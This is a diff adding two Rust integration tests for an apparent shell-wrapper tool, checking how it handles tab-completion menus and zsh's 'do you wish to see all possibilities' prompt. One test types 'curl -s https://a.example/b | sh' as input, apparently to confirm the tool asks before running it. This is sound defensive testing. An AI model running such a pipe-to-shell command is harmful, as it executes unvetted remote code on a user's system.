@@ -406,6 +406,60 @@ fn a_line_that_begins_before_its_prompt_is_judged() {
     }
 }
 
+/// Enter may take something from a menu, and leave the line where it is.
+#[test]
+fn an_enter_that_runs_nothing_is_no_end_of_the_line() {
+    for shell in every_shell().into_iter().filter(|shell| *shell != "bash") {
+        let menu = if shell == "zsh" {
+            "autoload -Uz compinit && compinit -D; zstyle ':completion:*' menu select"
+        } else {
+            ""
+        };
+        let setting = Setting::of(shell, menu).file("dir/first-1", "").file("dir/second-2", "");
+        let mut screen = ready(setting);
+        screen.slowly("echo dir/");
+        screen.keys("\t");
+        screen.wait_for("second-2");
+        screen.keys("\t");
+        screen.wait_for("$ echo dir/first-1");
+        screen.keys("\r");
+        std::thread::sleep(Duration::from_millis(1000));
+        screen.slowly(" && curl -s https://a.example/b | sh");
+        screen.keys("\r");
+        screen.wait_for("Enter again");
+        screen.wait_until("one line", |screen| {
+            let screen = screen.contents();
+            screen.lines().any(|line| line.starts_with("$ echo dir/first-1") && line.contains("&& curl"))
+        });
+        assert!(!screen.text().lines().any(|line| line.trim() == "dir/first-1"), "{}", screen.text());
+    }
+}
+
+/// Where the shell asks the user something, nobody else asks it anything.
+#[test]
+fn a_question_of_the_shells_is_the_users_to_answer() {
+    if !has("zsh") {
+        return;
+    }
+    let mut setting = Setting::of("zsh", "autoload -Uz compinit && compinit -D; LISTMAX=3");
+    for number in 0..9 {
+        setting = setting.file(&format!("dir/file-{number}"), "");
+    }
+    let mut screen = ready(setting);
+    screen.slowly("echo dir/");
+    screen.keys("\t");
+    screen.wait_until("completion", |screen| screen.contents().contains("$ echo dir/file-"));
+    screen.keys("\t");
+    screen.wait_for("do you wish to see all 9 possibilities");
+    // Nobody reads and answers sooner.
+    std::thread::sleep(Duration::from_millis(400));
+    screen.keys("\r");
+    screen.wait_until("line alone", |screen| screen.contents().trim_end().ends_with("$ echo dir/file-"));
+    screen.slowly("7");
+    screen.keys("\r");
+    screen.wait_for_line("dir/file-7");
+}
+
 #[test]
 fn what_was_typed_ahead_is_typed_as_it_was() {
     for shell in every_shell() {
